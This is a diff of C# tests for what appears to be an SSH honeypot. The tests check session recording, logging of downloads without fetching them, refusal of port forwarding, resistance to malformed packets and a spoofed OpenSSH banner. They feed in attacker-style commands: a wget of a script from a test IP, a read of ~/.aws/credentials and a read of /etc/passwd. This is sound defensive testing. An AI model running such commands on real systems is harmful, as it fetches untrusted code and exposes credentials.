@@ -10,7 +10,7 @@ public sealed class SshSessionTests
     public async Task Interactive_pty_session_is_recorded_as_asciicast_and_downloads_are_logged_not_fetched()
     {
         Assert.True(SshTestHost.ClientsInstalled, "openssh-client and sshpass are not installed");
-        await using var host = new SshTestHost();
+        await using var host = await SshTestHost.StartAsync();
 
         // -tt forces a pty although stdin is a pipe: the server echoes and prints prompts.
         var result = await host.SshAsync("admin", null, "uname -a\nwget http://203.0.113.9/x.sh -O /tmp/x.sh\ncat ~/.aws/credentials | grep aws_access\nexit\n", "root", "-tt");
@@ -41,7 +41,7 @@ public sealed class SshSessionTests
     public async Task Recording_stops_at_its_size_bound_and_says_so()
     {
         Assert.True(SshTestHost.ClientsInstalled, "openssh-client and sshpass are not installed");
-        await using var host = new SshTestHost(new() { ["max_recording_bytes"] = "2048" });
+        await using var host = await SshTestHost.StartAsync(new() { ["max_recording_bytes"] = "2048" });
 
         var result = await host.SshAsync("admin", null, "cat /proc/cpuinfo\ncat /etc/passwd\nexit\n", "root", "-tt");
 
@@ -55,7 +55,7 @@ public sealed class SshSessionTests
     public async Task Port_forwarding_attempts_are_refused_and_recorded()
     {
         Assert.True(SshTestHost.ClientsInstalled, "openssh-client and sshpass are not installed");
-        await using var host = new SshTestHost();
+        await using var host = await SshTestHost.StartAsync();
 
         var result = await host.SshAsync("admin", null, "", "root", "-W", "10.0.0.5:3306", "-o", "LogLevel=INFO");
 
@@ -69,7 +69,7 @@ public sealed class SshSessionTests
     public async Task Garbage_and_truncated_packets_never_crash_the_service()
     {
         Assert.True(SshTestHost.ClientsInstalled, "openssh-client and sshpass are not installed");
-        await using var host = new SshTestHost();
+        await using var host = await SshTestHost.StartAsync();
         byte[][] attacks =
         [
             "GET / HTTP/1.1\r\nHost: x\r\n\r\n"u8.ToArray(),
@@ -106,7 +106,7 @@ public sealed class SshSessionTests
             await http.ConnectAsync("127.0.0.1", host.Port, TestContext.Current.CancellationToken);
             await http.GetStream().WriteAsync("GET / HTTP/1.0\r\n\r\n"u8.ToArray(), TestContext.Current.CancellationToken);
             using var reader = new StreamReader(http.GetStream());
-            Assert.Equal("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", await reader.ReadLineAsync(TestContext.Current.CancellationToken));
+            Assert.Equal("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10", await reader.ReadLineAsync(TestContext.Current.CancellationToken));
             Assert.Equal("Invalid SSH identification string.", await reader.ReadLineAsync(TestContext.Current.CancellationToken));
         }
 
@@ -120,12 +120,12 @@ public sealed class SshSessionTests
     public async Task Nmap_service_detection_identifies_openssh()
     {
         Assert.True(ClientProcess.Exists("nmap"), "nmap is not installed (apt-get install nmap)");
-        await using var host = new SshTestHost();
+        await using var host = await SshTestHost.StartAsync();
 
         var result = await ClientProcess.RunAsync("nmap", ["-sV", "-Pn", "-n", "-p", host.Port.ToString(System.Globalization.CultureInfo.InvariantCulture), "127.0.0.1"], timeoutMs: 180_000);
 
         Assert.True(result.ExitCode == 0, result.Stderr);
-        Assert.Matches(@"open\s+ssh\s+OpenSSH 9\.2p1 Debian 2\+deb12u3", result.Stdout);
+        Assert.Matches(@"open\s+ssh\s+OpenSSH 9\.2p1 Debian 2\+deb12u10", result.Stdout);
         Assert.Empty(host.Errors);
     }
 }
